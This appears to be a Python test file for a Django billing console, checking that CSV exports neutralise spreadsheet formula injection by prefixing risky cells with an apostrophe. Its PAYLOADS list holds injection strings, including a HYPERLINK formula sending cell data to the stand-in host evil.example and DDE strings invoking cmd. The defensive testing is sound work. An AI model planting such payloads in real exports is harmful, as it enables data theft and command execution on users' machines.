"""CSV formula injection: text people (or models) wrote goes into every CSV download as text.

A cell that starts with =, +, -, @, a tab or a carriage return is run by spreadsheets as a
formula (=HYPERLINK can send a click's data away). Every CSV writer passes such text through
console.spreadsheet.csv_cell; numbers the console formats itself (a negative amount) stay
numbers. Each export below is read back with the csv module and checked cell by cell.
"""

import csv
import io
from decimal import Decimal, InvalidOperation

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from billing.exports import KINDS, finance_export_rows
from billing.invoices import Buyer, invoice_request
from billing.payments import payment_record_manual
from billing.selectors import current_month
from billing.services import recharge, refund
from console.money import NANO_PER_UNIT
from console.spreadsheet import FORMULA_STARTS, csv_cell
from history.models import HistoryExport
from history.services import history_export_build, history_export_start, prompt_log_write
from keys.services import api_key_create
from projects.services import project_create
from tests.billing.traffic import settle_one
from tests.factories import make_account, make_user

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=2+2",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_cell_keeps_a_formula_as_text(payload):
    assert csv_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", ["Plain", "1+1", "", "中文=1", " =1", 42, -1, None])
def test_csv_cell_leaves_everything_else_alone(value):
    assert csv_cell(value) == value


def _is_number(text: str) -> bool:
    try:
        Decimal(text)
    except InvalidOperation:
        return False
    return True


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def assert_formulas_kept_as_text(text: str, expected: list[str]):
    """No cell starts a formula (a number may start with -), and each of `expected` starts
    a cell as text: behind an apostrophe."""
    cells = _cells(text)
    for cell in cells:
        assert not cell.startswith(FORMULA_STARTS) or _is_number(cell), repr(cell)
    for value in expected:
        assert any(cell.startswith("'" + value) for cell in cells), (value, cells)


def _download(client, url, params=None) -> str:
    response = client.get(url, params or {})
    assert response.status_code == 200, url
    content = b"".join(response) if response.streaming else response.content
    return content.decode("utf-8")


@pytest.fixture
def hostile_books(mailoutbox):
    """An account whose projects, keys, prompts, answers, references and invoice titles are
    the payloads, with usage in each project."""
    owner = make_user()
    account = make_account(owner, name="Formula Co")
    recharge(account=account, amount_nano=500 * NANO_PER_UNIT, reference="+seed")
    projects, labels = [], []
    for index, payload in enumerate(PAYLOADS):
        project = project_create(account=account, name=payload, actor=owner)
        key = api_key_create(account=account, project=project, label=payload, actor=owner).key
        settle_one(key, input_tokens=200_000, output_tokens=100_000)
        prompt_log_write(
            account=account,
            project=project,
            api_key=key,
            request_id=f"formula-{index}",
            model="glm-4.7",
            messages=[{"role": "user", "content": payload}],
            parameters={},
            response_text=payload,
            status=200,
            input_tokens=1,
            output_tokens=1,
            latency_ms=1,
            first_token_ms=None,
            created_at=timezone.now(),
        )
        projects.append(project.name)
        labels.append(key.label)
    return owner, account, projects, labels


def test_transactions_csv_keeps_project_names_and_references_as_text(hostile_books):
    owner, _account, projects, _labels = hostile_books
    client = Client()
    client.force_login(owner)
    text = _download(client, reverse("billing:transactions_csv"))
    assert_formulas_kept_as_text(text, [*projects, "+seed"])


def test_statement_csv_keeps_project_names_as_text(hostile_books):
    owner, account, projects, _labels = hostile_books
    client = Client()
    client.force_login(owner)
    month = f"{current_month(account=account):%Y-%m}"
    text = _download(client, reverse("billing:statement_csv", kwargs={"month": month}))
    assert_formulas_kept_as_text(text, projects)


@pytest.mark.parametrize("group", ["project", "key"])
def test_usage_csv_keeps_project_names_and_key_labels_as_text(group, hostile_books):
    owner, _account, projects, labels = hostile_books
    client = Client()
    client.force_login(owner)
    text = _download(client, reverse("usage:csv"), {"group": group})
    assert_formulas_kept_as_text(text, projects if group == "project" else labels)


def test_history_export_keeps_prompts_answers_and_projects_as_text(hostile_books):
    """Both the download streamed at once and the background export's file."""
    owner, account, projects, _labels = hostile_books
    client = Client()
    client.force_login(owner)
    text = _download(client, reverse("history:export"), {"format": "csv", "range": "7d"})
    assert_formulas_kept_as_text(text, projects)
    export = history_export_start(account=account, user=owner, query={"range": "7d"}, fmt="csv")
    history_export_build(export_id=export.pk)
    export = HistoryExport.objects.get(pk=export.pk)
    with export.file.open("rb") as file:
        text = file.read().decode("utf-8")
    assert_formulas_kept_as_text(text, projects)
    rows = {row["request_id"]: row for row in csv.DictReader(io.StringIO(text, newline=""))}
    for index, payload in enumerate(PAYLOADS):
        row = rows[f"formula-{index}"]
        assert row["last_user_message"] == row["response"] == "'" + payload


def test_finance_exports_keep_account_names_titles_references_and_reasons_as_text():
    """The staff's exports (portal/admin_staff.py writes these rows with csv.writer)."""
    account = make_account(make_user(), name=PAYLOADS[3], starter_pack=False)
    payment_record_manual(account=account, amount_nano=100 * NANO_PER_UNIT, reference="r-1")
    settle_one(
        api_key_create(account=account, project=account.projects.get(), label="k", actor=None).key,
        input_tokens=200_000,
        output_tokens=100_000,
    )
    refund(account=account, amount_nano=NANO_PER_UNIT, reference="@refund", reason=PAYLOADS[0])
    invoice_request(
        account=account,
        amount_nano=10 * NANO_PER_UNIT,
        buyer=Buyer(type="individual", title=PAYLOADS[1]),
        actor=None,
    )
    month = current_month(account=account)
    expected = {
        "recharges": [PAYLOADS[3]],
        "refunds": [PAYLOADS[3], "@refund", PAYLOADS[0]],
        "invoices": [PAYLOADS[3], PAYLOADS[1]],
        "consumption": [PAYLOADS[3]],
    }
    assert set(expected) == set(KINDS)
    for kind, values in expected.items():
        out = io.StringIO()
        csv.writer(out).writerows(finance_export_rows(kind=kind, month=month))
        assert_formulas_kept_as_text(out.getvalue(), values)
